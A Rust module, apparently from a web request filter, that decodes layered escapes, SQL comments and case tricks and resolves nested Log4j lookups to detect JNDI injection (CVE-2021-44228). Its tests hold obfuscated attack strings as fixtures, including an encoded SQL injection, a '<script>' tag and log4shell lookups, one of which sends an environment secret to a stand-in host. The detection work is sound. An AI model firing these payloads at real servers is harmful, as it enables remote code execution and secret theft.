//! What does a part of a request say once its disguises are off?
//!
//! Percent signs (twice, also `%u0041`), `\u0041`, `+` for a blank, SQL comments, case, runs of blanks; and the nested lookups with which log4shell hides. Pure functions from text to
//! text, all bounded by the length of what they get.

/// Rounds of lookups that are resolved: real disguises use one a letter of `jndi:ldap`.
const ROUNDS: usize = 64;

fn hex(b: Option<&u8>) -> Option<u8> {
    b.and_then(|b| (*b as char).to_digit(16)).map(|d| d as u8)
}

/// Once without percent signs.
fn unescape(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while let Some(b) = bytes.get(at) {
        let two = |from: usize| Some(hex(bytes.get(from))? << 4 | hex(bytes.get(from + 1))?);
        let (byte, len) = match (b, bytes.get(at + 1)) {
            (b'%', Some(b'u' | b'U')) => match (two(at + 2), two(at + 4)) {
                (Some(0), Some(low)) => (low, 6),
                // Full-width forms of ASCII (U+FF01 to U+FF5E), which servers fold back.
                (Some(0xff), Some(low @ 0x01..=0x5e)) => (low + 0x20, 6),
                _ => (*b, 1),
            },
            // As in JSON.
            (b'\\', Some(b'u')) if bytes.get(at + 2) == Some(&b'0') => match (two(at + 2), two(at + 4)) {
                (Some(0), Some(low @ 0x20..=0x7e)) => (low, 6),
                _ => (*b, 1),
            },
            (b'%', _) => two(at + 1).map_or((*b, 1), |byte| (byte, 3)),
            _ => (*b, 1),
        };
        out.push(byte);
        at += len;
    }
    out
}

/// Lower case, without escapes (two layers), with single blanks and without SQL comments.
pub(super) fn plain(raw: &[u8]) -> String {
    let raw: Vec<u8> = raw.iter().map(|b| if *b == b'+' { b' ' } else { *b }).collect();
    let mut bytes = unescape(&raw);
    if bytes.contains(&b'%') || bytes.contains(&b'\\') {
        bytes = unescape(&bytes);
    }
    let mut out = String::with_capacity(bytes.len());
    let text = String::from_utf8_lossy(&bytes);
    let mut rest: &str = &text;
    let mut blank = false;
    while let Some(c) = rest.chars().next() {
        let mut len = c.len_utf8();
        let mut shown = c.to_ascii_lowercase();
        if let Some(comment) = rest.strip_prefix("/*") {
            // `/*!union*/` is run by MySQL: only its marks go.
            len = match comment.strip_prefix('!') {
                Some(_) => 3,
                None => comment.find("*/").map_or(2, |end| end + 4),
            };
            shown = ' ';
        } else if rest.starts_with("*/") {
            (len, shown) = (2, ' ');
        } else if c.is_whitespace() || c == '\0' {
            shown = ' ';
        }
        if shown != ' ' || !blank {
            out.push(shown);
        }
        blank = shown == ' ';
        rest = rest.get(len..).unwrap_or("");
    }
    out
}

/// Does a text hold a lookup over JNDI, however nested (CVE-2021-44228)? Gives the lookup as it resolves.
pub(super) fn jndi(text: &str) -> Option<String> {
    if !text.contains("${") {
        return None;
    }
    let mut text = text.to_ascii_lowercase();
    for _ in 0..ROUNDS {
        let open = text.rfind("${")?;
        let inner = text.get(open + 2..)?;
        let end = inner.find('}');
        let body = inner.get(..end.unwrap_or(inner.len()))?;
        if let Some(rest) = body.trim_start().strip_prefix("jndi:") {
            return Some(format!("${{jndi:{}", cut(rest, 120)));
        }
        // What a lookup gives: `lower:` and `upper:` their letters, `a:b:-c` and `:-c` the default, a date its quoted letters.
        let given = match body.rsplit_once(":-") {
            Some((_, default)) => default,
            None => body.rsplit_once(':').map_or("", |(_, letters)| letters.trim_matches('\'')),
        };
        let mut next = text.get(..open)?.to_owned();
        next.push_str(given);
        next.push_str(end.and_then(|e| inner.get(e + 1..)).unwrap_or(""));
        text = next;
    }
    None
}

/// At most `cap` bytes, at a border of characters.
pub(super) fn cut(text: &str, cap: usize) -> &str {
    let mut end = cap.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// What stands around `at`, to be shown: some bytes before and a line after.
pub(super) fn around(text: &str, at: usize) -> &str {
    let mut from = at.saturating_sub(24);
    while !text.is_char_boundary(from) {
        from += 1;
    }
    cut(text.get(from..).unwrap_or(text), 140)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disguises_come_off() {
        assert_eq!(plain(b"id=1%2527%20UnIoN/**/SELECT+1"), "id=1' union select 1");
        assert_eq!(plain(b"1/*!50000union*/ select"), "1 50000union select");
        assert_eq!(plain(b"%u003cscript%uff1e"), "<script>");
        assert_eq!(plain(b"a  \t b%00c%zz%"), "a b c%zz%");
        assert_eq!(plain("%C3%A9/*".as_bytes()), "\u{e9} ");
    }

    #[test]
    fn nested_lookups_are_seen_through() {
        for text in [
            "x ${jndi:ldap://10.0.0.6:1389/a}",
            "${${lower:j}${upper:n}${lower:d}i:ldap://h/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://h/a}",
            "${${date:'j'}ndi:rmi://h}",
            "${jndi:dns://h/${env:SECRET}}",
            "${jndi:${lower:l}${lower:d}ap://cut",
        ] {
            let found = jndi(text).unwrap_or_default();
            assert!(found.starts_with("${jndi:"), "{text}: {found}");
        }
        for text in ["${name}", "$(jndi:x)", "jndi:ldap://h", "${", "cost ${5}", "${${${"] {
            assert_eq!(jndi(text), None, "{text}");
        }
        assert_eq!(jndi(&"${a".repeat(500)), None);
    }

    #[test]
    fn cuts_keep_characters_whole() {
        assert_eq!(cut("a\u{e9}b", 2), "a");
        assert!(around(&"\u{e9}".repeat(200), 101).len() <= 140);
    }
}
